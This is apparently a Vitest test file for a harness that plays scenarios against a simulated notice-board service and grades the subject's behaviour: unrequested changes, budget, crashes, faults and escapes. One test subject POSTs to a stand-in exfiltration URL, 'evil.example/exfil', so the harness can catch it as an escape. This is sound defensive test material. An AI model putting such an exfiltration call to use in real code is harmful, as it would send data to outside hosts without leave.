import { describe, expect, it } from 'vitest'
import { UsageError } from '../engine/usage-error.ts'
import { playTrial } from './play.ts'
import type { Scenario } from './scenario.ts'
import { nothingSubject } from './subject/nothing.ts'
import type { Subject } from './subject/subject.ts'
import type { TrialResult } from './trial-result.ts'
import { boardScenario, boardWorld, callBoard, subjectOf, trialOf } from './testing/board-stage.ts'

const base = boardWorld()

function play(scenario: Scenario, subject: Subject, rest = {}) {
  return playTrial(trialOf(scenario, rest), { base, subject })
}

function textsOf({ why }: TrialResult): string[] {
  return why.map(({ text }) => text)
}

const pinning = boardScenario(async ({ given, subject, step, check, board, changes }) => {
  const note = given.board.note({ title: 'Fire drill', pinned: false })
  changes.allow(`board.notes[${note.id}].pinned`)
  await step('the office pins the note', () =>
    subject.post('/pin', { id: note.id, title: note.title }),
  )
  await step('everyone sees it', () => {
    const seen = board.get(`/notes/${note.id}`)
    check('it is pinned', seen.body.pinned)
    check('its title is kept', seen.body.title, 'Fire drill')
  })
})

const pins = subjectOf(async ({ body }, world) => {
  const { id, title } = body as { id: string; title: string }
  const { status } = await callBoard(world, 'PUT', `/notes/${id}`, { title, pinned: true })
  return { status }
})

describe('playTrial', () => {
  it('satisfies a subject that does what is asked and nothing else', async () => {
    const result = await play(pinning, pins)
    expect(result).toMatchObject({
      id: 'test/one@1',
      verdict: 'satisfied',
      why: [],
      unexpected: [],
      budget: { calls: { used: 1 }, writes: { used: 1 } },
    })
    expect(result.checks.map(({ sentence, ok, step }) => [sentence, ok, step])).toEqual([
      ['it is pinned', true, 'everyone sees it'],
      ['its title is kept', true, 'everyone sees it'],
    ])
    expect(result.exchanges.map(({ by, what }) => `${by} ${what}`)).toEqual([
      'subject changeNote',
      'scenario getNote',
    ])
  })

  it('plays the same trial to the same result', async () => {
    const [one, two] = [await play(pinning, pins), await play(pinning, pins)]
    expect({ ...one, wallMs: 0 }).toEqual({ ...two, wallMs: 0 })
  })

  it('does not satisfy a subject that does nothing', async () => {
    const result = await play(pinning, nothingSubject)
    expect(result.verdict).toBe('unsatisfied')
    expect(textsOf(result)).toEqual(['not so: it is pinned'])
    expect(result.checks[0]!.restsOn).toEqual([1])
  })

  it('finds what else was changed, and the exchange that did it', async () => {
    const careless = subjectOf(async (request, world) => {
      const { id } = request.body as { id: string }
      await callBoard(world, 'PUT', `/notes/${id}`, { title: 'PINNED', pinned: true })
      await callBoard(world, 'POST', '/notes', { title: 'By the way' })
      return { status: 200 }
    })
    const result = await play(pinning, careless)
    expect(textsOf(result)).toEqual([
      'not so: its title is kept',
      expect.stringMatching(/^changed without leave: board.notes n\w+ \(title\)$/),
      expect.stringMatching(/^made without leave: board.notes n\w+$/),
    ])
    expect(result.unexpected).toMatchObject([
      {
        table: 'board.notes',
        kind: 'changed',
        fields: [{ path: 'title', before: 'Fire drill', after: 'PINNED' }],
        by: [1],
      },
      { table: 'board.notes', kind: 'made', by: [2] },
    ])
    expect(result.unexpected[0]!.word).toMatch(/^board\.notes\[n\w+\]\.title$/)
  })

  it('never counts what the scenario itself put there, before or between', async () => {
    const scenario = boardScenario(async ({ given, subject, check, board, changes }) => {
      const first = given.board.note({ title: 'a' })
      changes.allow('board.notes[*].pinned')
      await subject.run({ id: first.id, title: 'a' })
      const second = given.board.note({ title: 'b' })
      board.put(`/notes/${first.id}`, { title: 'c' })
      await subject.run({ id: second.id, title: 'b' })
      check('both are pinned', board.get('/notes?author=nobody').body.length, 2)
    })
    expect((await play(scenario, pins)).why).toEqual([])
  })

  it('lets a check rest on what was read for it, not on what was looked at last', async () => {
    const scenario = boardScenario(async ({ given, subject, check, board, changes }) => {
      const note = given.board.note({ title: 'a' })
      changes.allow('board.notes[*].pinned')
      board.get('/notes')
      const reply = await subject.run({ id: note.id, title: 'a' })
      const seen = board.get(`/notes/${note.id}`)
      board.get('/ping')
      check('the reply', reply.status, 0)
      check('the look', seen.body.title, 'b')
      check('the look again', seen.body.pinned, false)
    })
    const { checks } = await play(scenario, pins)
    expect(checks.map(({ restsOn }) => restsOn)).toEqual([[2], [3], [3]])
  })

  it('holds the budget', async () => {
    const scenario = boardScenario(
      async ({ subject, check }) => check('it answered', (await subject.run()).status, 200),
      { budget: { calls: 2 } },
    )
    const chatty = subjectOf(async (_request, world) => {
      for (let i = 0; i < 3; i++) await callBoard(world, 'GET', '/notes')
      return {}
    })
    expect(textsOf(await play(scenario, chatty))).toEqual(['over budget: 3 calls of 2'])
  })

  it('counts a crash of the subject as its own', async () => {
    const scenario = boardScenario(async ({ subject, check }) => {
      const { body } = await subject.run()
      check('never reached', (body as { ok: boolean }).ok)
    })
    const crashing = subjectOf(() => {
      throw new Error('boom')
    })
    const result = await play(scenario, crashing)
    expect(result.verdict).toBe('unsatisfied')
    expect(result.why[0]!.text).toBe('no answer to POST /: the subject threw: Error: boom')
  })

  it('is inconclusive when the scenario itself breaks, and says where', async () => {
    const scenario = boardScenario(({ check, board }) => {
      check('there are notes', board.get('/notes').status, 200)
      board.get('/notes/none').body.nothing.there()
    })
    const result = await play(scenario, nothingSubject)
    expect(result.verdict).toBe('inconclusive')
    expect(result.why[0]!.text).toMatch(
      /^the scenario stopped: TypeError: .*\(at play\.test\.ts:\d+:\d+\); its last look, GET \/notes\/none, was answered 404$/,
    )
  })

  it('is inconclusive when the twin can not answer truthfully', async () => {
    const scenario = boardScenario(async ({ given, subject, check }) => {
      check('archived', (await subject.run(given.board.note())).status, 200)
    })
    const archives = subjectOf(async ({ body }, world) => {
      const { id } = body as { id: string }
      return { status: (await callBoard(world, 'POST', `/notes/${id}/archive`)).status }
    })
    const result = await play(scenario, archives)
    expect(result.verdict).toBe('inconclusive')
    expect(result.why[0]!.text).toContain(`can't answer board archiveNote`)
    expect(result.shallow).toEqual([{ twin: 'board', op: 'archiveNote', depth: 'spec', calls: 1 }])
  })

  it('is inconclusive when the scenario checks nothing', async () => {
    expect(
      await play(
        boardScenario(() => {}),
        nothingSubject,
      ),
    ).toMatchObject({
      verdict: 'inconclusive',
      why: [{ text: 'the scenario checked nothing' }],
    })
  })

  it('stops at a must that does not hold', async () => {
    const scenario = boardScenario(({ must, check }) => {
      must('the ground is there', 1, 2)
      check('never reached', false)
    })
    const result = await play(scenario, nothingSubject)
    expect(result.checks).toHaveLength(1)
    expect(result).toMatchObject({
      verdict: 'unsatisfied',
      why: [{ text: 'not so: the ground is there' }],
    })
  })

  it('counts an attempt to reach anything else as an escape', async () => {
    const scenario = boardScenario(async ({ subject, check }) => {
      check('answered', (await subject.run()).status, 200)
    })
    const escaping = subjectOf(async (_request, { fetch }) => {
      await fetch('https://evil.example/exfil', { method: 'POST', body: 'x' }).catch(() => {})
      return {}
    })
    expect(await play(scenario, escaping)).toMatchObject({
      verdict: 'unsatisfied',
      escapes: [{ target: 'https://evil.example/exfil', how: 'fetch' }],
    })
  })

  it('lets a lost answer be felt: the write happened, the caller never learns', async () => {
    const plan = {
      name: 'lost',
      faults: [{ on: 'write', at: 1, action: { kind: 'drop-after' as const } }],
    }
    const retries = subjectOf(async (_request, world) => {
      const post = () => callBoard(world, 'POST', '/notes', { title: 'Once' })
      await post().catch(post)
      return {}
    })
    const scenario = boardScenario(async ({ subject, check, changes, journal }) => {
      changes.allow('board.notes[+title=Once]')
      await subject.run()
      check('told once, not twice', journal.calls('board', 'createNote').length, 1)
    })
    const result = await play(scenario, retries, { plan })
    expect(result).toMatchObject({
      id: 'test/one@1+lost',
      why: [{ text: 'not so: told once, not twice' }],
      plan: { struck: 1, places: ['any twin write #1: drop-after'] },
    })
    expect(result.checks[0]!.restsOn).toEqual([1, 3])
    expect(result.exchanges[0]).toMatchObject({
      lost: true,
      fault: 'any twin write #1: drop-after',
    })
  })

  it('tells when each step, request and check was, in virtual time and between which exchanges', async () => {
    const scenario = boardScenario(async ({ subject, step, check, advance, board }) => {
      check('nothing yet', true)
      await step('a note is asked for', () => subject.post('/notes'))
      advance('2 seconds')
      check('it is there', board.get('/notes').status, 200)
    })
    const subject = subjectOf((_request, world) =>
      callBoard(world, 'POST', '/notes', { title: 'x' }),
    )
    const { checks, steps, requests } = await play(scenario, subject)
    const placed = checks.map(({ atMs, after }) => [atMs, after])
    expect(placed[0]).toEqual([0, 0])
    expect(steps[0]).toMatchObject({ atMs: 0, before: 0, endMs: requests[0]!.endMs })
    expect(requests[0]).toMatchObject({ atMs: 0, before: 0 })
    expect(placed[1]![0]).toBe(requests[0]!.endMs + 2000)
    expect(placed[1]![1]).toBeGreaterThan(steps[0]!.last)
  })

  it('keeps bodies of a trial that satisfies only where it is asked to', async () => {
    const scenario = boardScenario(async ({ subject, check }) => {
      check('answered', (await subject.run()).status, 200)
    }, {})
    const subject = subjectOf(async (_request, world) => {
      await callBoard(world, 'GET', '/notes')
      return { status: 200 }
    })
    const bodiesOf = async (keepsBodies: boolean) => {
      const trial = { ...trialOf(scenario), keepsBodies }
      const { exchanges, verdict } = await playTrial(trial, { base: boardWorld(), subject })
      expect(verdict).toBe('satisfied')
      return exchanges.filter(({ reply }) => reply !== undefined).length
    }
    expect(await bodiesOf(false)).toBe(0)
    expect(await bodiesOf(true)).toBe(1)
  })

  it('passes on the mistakes of an author, with what to do', async () => {
    const scenario = boardScenario(({ changes }) => changes.allow('board.note[*]'))
    await expect(play(scenario, nothingSubject)).rejects.toThrow(UsageError)
    await expect(play(scenario, nothingSubject)).rejects.toThrow('Did you mean "board.notes"?')
  })
})
